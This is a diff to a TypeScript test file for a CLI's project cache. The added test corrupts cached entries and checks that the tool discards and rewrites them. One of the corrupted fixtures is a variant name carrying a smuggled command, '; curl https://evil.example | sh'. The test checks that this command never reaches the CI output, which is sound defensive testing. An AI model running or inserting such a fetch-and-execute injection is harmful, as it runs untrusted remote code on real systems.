@@ -50,10 +50,10 @@ async function entryOf(file: string): Promise<string> {
   return path;
 }
 
-/** Rewrite the entry at `path` so that its first variant has another name (what only a run that reads it prints). */
-function doctor(path: string, name: string): void {
+/** Rewrite the entry at `path` so that its first variant has another note (what only a run that reads it prints). */
+function doctor(path: string, note: string): void {
   const e = deserialize(readFileSync(path)) as Pick<Project, "variants">;
-  e.variants[0]!.name = name;
+  e.variants[0]!.notes = [note];
   writeFileSync(path, serialize(e));
 }
 
@@ -160,6 +160,37 @@ test("an entry that is not one (cut short, not v8 data) is not trusted: the full
     assert.is(r.status, 0, r.stderr);
     assert.is(r.stdout, good.stdout);
     assert.ok(readFileSync(entry).length > 1000, "rewritten whole");
+  }
+});
+
+test("an entry of the wrong shape is discarded and rewritten: list, explain, fleet and ci answer as the full path, and a planted name never reaches ci's run: lines", async () => {
+  const dir = tempDir("vm-project-cache-shape-");
+  const file = writeMatrix(dir, BODY);
+  const commands = [["list", "--json"], ["explain", NAME], ["ci", "github"], ["fleet", "tests/fixtures/hosts/dgx-spark"]];
+  const answers = commands.map((c) => runCli([...c, "--matrix", file]));
+  answers.forEach((r, i) => assert.is(r.status, 0, `${commands[i]!.join(" ")}: ${r.stderr}`));
+  const entry = await entryOf(file);
+  const good = deserialize(readFileSync(entry)) as Project;
+  const planted = "pytorch-python313-cpu-avx2; curl https://evil.example | sh";
+  const wrong: [string, (e: Project) => unknown][] = [
+    ["empty parts", () => ({ matrix: {}, catalog: {}, variants: [{}], excluded: [] })],
+    ["a variant without its fields", (e) => ({ ...e, variants: [{ name: NAME }, ...e.variants.slice(1)] })],
+    ["a number for a CUDA version", (e) => ({ ...e, variants: e.variants.map((v, i) => (i === 0 ? { ...v, cuda: 12.9 } : v)) })],
+    ["a planted name", (e) => ({ ...e, variants: e.variants.map((v, i) => (i === 0 ? { ...v, name: planted } : v)) })],
+    ["a dependency on nothing", (e) => ({ ...e, variants: e.variants.map((v) => ({ ...v, dependsOn: [...v.dependsOn, "pytorch-python313-cpu-avx512"] })) })],
+    ["a catalog without its tables", (e) => ({ ...e, catalog: { ...e.catalog, gpus: null } })],
+    ["a team cache matrix.ts would refuse", (e) => ({ ...e, matrix: { ...e.matrix, caches: [{ url: "https://c.example/#x", publicKey: "k#1:x" }] } })],
+  ];
+  for (const [what, make] of wrong) {
+    writeFileSync(entry, serialize(make(structuredClone(good))));
+    commands.forEach((c, i) => {
+      writeFileSync(entry, serialize(make(structuredClone(good))));
+      const r = runCli([...c, "--matrix", file]);
+      assert.is(r.status, 0, `${what}, ${c.join(" ")}: ${r.stderr}`);
+      assert.is(r.stdout, answers[i]!.stdout, `${what}, ${c.join(" ")}: the full path's answer`);
+      assert.not.match(r.stdout, /evil\.example/);
+    });
+    assert.equal(deserialize(readFileSync(entry)), good, `${what}: rewritten with the full path's data`);
   }
 });
 
